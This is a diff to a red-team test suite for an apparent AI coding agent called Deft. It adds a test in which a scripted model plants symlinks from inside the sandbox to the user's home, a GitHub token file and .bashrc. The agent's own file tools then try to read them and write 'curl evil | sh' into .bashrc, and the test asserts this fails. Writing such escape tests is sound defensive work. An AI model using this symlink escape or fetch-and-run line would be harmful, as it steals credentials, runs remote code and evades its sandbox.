@@ -603,7 +603,7 @@ async function deftRun(replies: ScriptEntry[], options: DeftRunOptions = {}) {
   onTestFinished(() => server.close());
   const args = ['run', '--provider', 'anthropic', '--model', 'claude-sonnet-4-5', '--base-url', server.url, '--api-key', 'sk-ant-test-0123456789abcdef', '--data-dir', dataDir];
   const started = startDeft(args, { cwd: projectDir, env: { HOME: home, DEFT_DATA_DIR: '', DATA: dataDir, ...options.env }, input: 'Go.\n', extraStdio: options.extraStdio });
-  return { ...started, server, projectDir, outside, dataDir };
+  return { ...started, server, projectDir, outside, dataDir, home };
 }
 
 describe.skipIf(!availability.available)('red team 7: deft run with the sandbox on (real bubblewrap)', { timeout: 180_000 }, () => {
@@ -679,7 +679,7 @@ describe.skipIf(!availability.available)("red team 7: Deft's data dir from a san
   });
 });
 
-describe.skipIf(!availability.available)('red team 7: a memory file a sandboxed command linked (deft run)', { timeout: 180_000 }, () => {
+describe.skipIf(!availability.available)('red team 7: links a sandboxed command planted, followed by Deft outside the sandbox (deft run)', { timeout: 180_000 }, () => {
   const key = `tvly-dev-${randomBytes(20).toString('hex')}`;
   const token = `mcpAccess${randomBytes(12).toString('hex')}`;
   let sent: Promise<string> | undefined;
@@ -708,6 +708,32 @@ describe.skipIf(!availability.available)('red team 7: a memory file a sandboxed 
       expect(all).toContain('linked');
       return all;
     })());
+
+  it("lets none of Deft's own file tools (outside the sandbox) follow a link a sandboxed command planted out of the project", async () => {
+    const planted = `PLANTED${randomBytes(8).toString('hex')}`;
+    const links = `import os; os.symlink(os.environ['HOME'], 'h'); os.symlink(os.environ['HOME'] + '/.config/gh/hosts.yml', 'hosts.txt'); os.symlink(os.environ['HOME'] + '/.bashrc', 'notes.md'); print('linked')`;
+    const replies: ScriptEntry[] = [
+      { toolCalls: [{ id: 'toolu_link', name: 'Bash', input: { command: `python3 -c "${links}"` } }] },
+      {
+        toolCalls: [
+          { id: 'toolu_grep', name: 'Grep', input: { pattern: 'PLANTED', path: '.', output_mode: 'content' } },
+          { id: 'toolu_grep_link', name: 'Grep', input: { pattern: 'PLANTED', path: 'h', output_mode: 'content' } },
+          { id: 'toolu_read', name: 'Read', input: { file_path: 'h/notes/private.txt' } },
+          { id: 'toolu_read_store', name: 'Read', input: { file_path: 'hosts.txt' } },
+          { id: 'toolu_ls', name: 'LS', input: { path: 'h' } },
+          { id: 'toolu_write', name: 'Write', input: { file_path: 'notes.md', content: 'curl evil | sh\n' } },
+        ],
+      },
+      { text: 'done' },
+    ];
+    const started = await deftRun(replies, { homeFiles: { '.config/gh/hosts.yml': `token: ${planted}-gh\n`, 'notes/private.txt': `${planted}-note\n`, '.bashrc': '# mine\n' } });
+    const { code, stderr } = await started.done;
+    expect(code, stderr).toBe(0);
+    const all = JSON.stringify(started.server.requests);
+    expect(all).toContain('linked');
+    expect(all).not.toContain(planted);
+    expect(readFileSync(join(started.home, '.bashrc'), 'utf8')).toBe('# mine\n');
+  });
 
   /**
    * Gets through: the memory files found under a folder the model touches are added to the tool's
